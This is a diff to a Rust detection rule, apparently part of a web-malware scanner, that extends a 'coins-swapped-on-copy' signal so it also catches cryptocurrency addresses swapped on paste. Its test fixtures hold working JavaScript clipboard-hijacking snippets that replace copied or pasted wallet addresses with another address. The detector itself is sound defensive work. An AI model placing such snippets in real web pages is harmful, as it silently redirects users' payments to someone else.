@@ -8,25 +8,51 @@ use crate::{ClassSet, Severity};
 
 pub(super) const SIGNAL: Signal = Signal {
     id: "coins-swapped-on-copy",
-    description: "Who copies the address of a currency gets another one.",
+    description: "Who copies or pastes the address of a currency gets another one.",
     severity: Severity::High,
     classes: ClassSet::MALWARE,
-    needs: &[one(&[Atom::CoinAddress]), one(&[Atom::CopyCall])],
+    needs: &[one(&[Atom::CoinAddress]), one(&[Atom::CopyCall, Atom::ClipboardRead])],
     within: 200,
-    only_if: Some(on_copy),
+    only_if: Some(swaps),
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
             r#"const r=[/\b0x[a-fA-F0-9]{40}\b/g];function swap(t){for(const x of r)t=t.replace(x,mine);return t}document.addEventListener('copy',e=>{const s=getSelection().toString();const n=swap(s);if(n!==s){e.clipboardData.setData('text/plain',n);e.preventDefault()}})"#,
             r#"let to='';fetch('/a').then(r=>r.json()).then(j=>to=j.a);document.addEventListener('copy',e=>{const s=getSelection().toString();if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(s)){e.clipboardData.setData('text/plain',to);e.preventDefault()}})"#,
+            r#"document.addEventListener('paste',e=>{const t=e.clipboardData.getData('text');if(/^0x[0-9a-f]{40}$/i.test(t)){e.preventDefault();document.execCommand('insertText',false,'0x1111111111222222222233333333334444444444')}})"#,
         ],
         without: &[
+            r#"document.addEventListener('paste',e=>{const t=e.clipboardData.getData('text');if(/^0x[0-9a-f]{40}$/i.test(t)){e.preventDefault();document.execCommand('insertText',false,t.trim())}})"#,
             r#"document.addEventListener('copy',e=>{const s=getSelection().toString().replace(/\s+/g,' ');if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(s)){e.clipboardData.setData('text/plain',s);e.preventDefault();toast('copied')}})"#,
             r#"document.addEventListener('copy',e=>{const s=getSelection().toString();e.clipboardData.setData('text/plain',s+' from our site');e.preventDefault()})"#,
             r#"button.onclick=()=>{if(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(to))navigator.clipboard.writeText(to)}"#,
         ],
     },
 };
+
+fn swaps(evidence: &Evidence<'_>, held: Held) -> bool {
+    on_copy(evidence, held) || on_paste(evidence, held)
+}
+
+/// Whether an address that the script holds is put where one is pasted.
+fn on_paste(evidence: &Evidence<'_>, held: Held) -> bool {
+    let near = Near::new(evidence, held, 80);
+    let listens = near.places().any(|at| {
+        let listened = near.kind(at) == Some(Kind::Str)
+            && near.word(at) == "paste"
+            && matches!(near.word(at.wrapping_sub(2)), "addEventListener" | "on");
+        listened || near.word(at) == "onpaste" && near.is(at + 1, b'=')
+    });
+    let is_held = |at: usize| near.has_fact_in(at..at + 1, &[Atom::AccountAddress]);
+    let inserts = || {
+        near.words(&["execCommand", "setRangeText"])
+            .any(|at| near.is(at + 1, b'(') && (at + 2..at + 7).any(is_held))
+            || near
+                .words(&["value", "textContent", "innerText"])
+                .any(|at| near.is(at + 1, b'=') && is_held(at + 2))
+    };
+    listens && near.has_word(&["preventDefault"]) && inserts()
+}
 
 fn on_copy(evidence: &Evidence<'_>, held: Held) -> bool {
     let near = Near::new(evidence, held, 80);
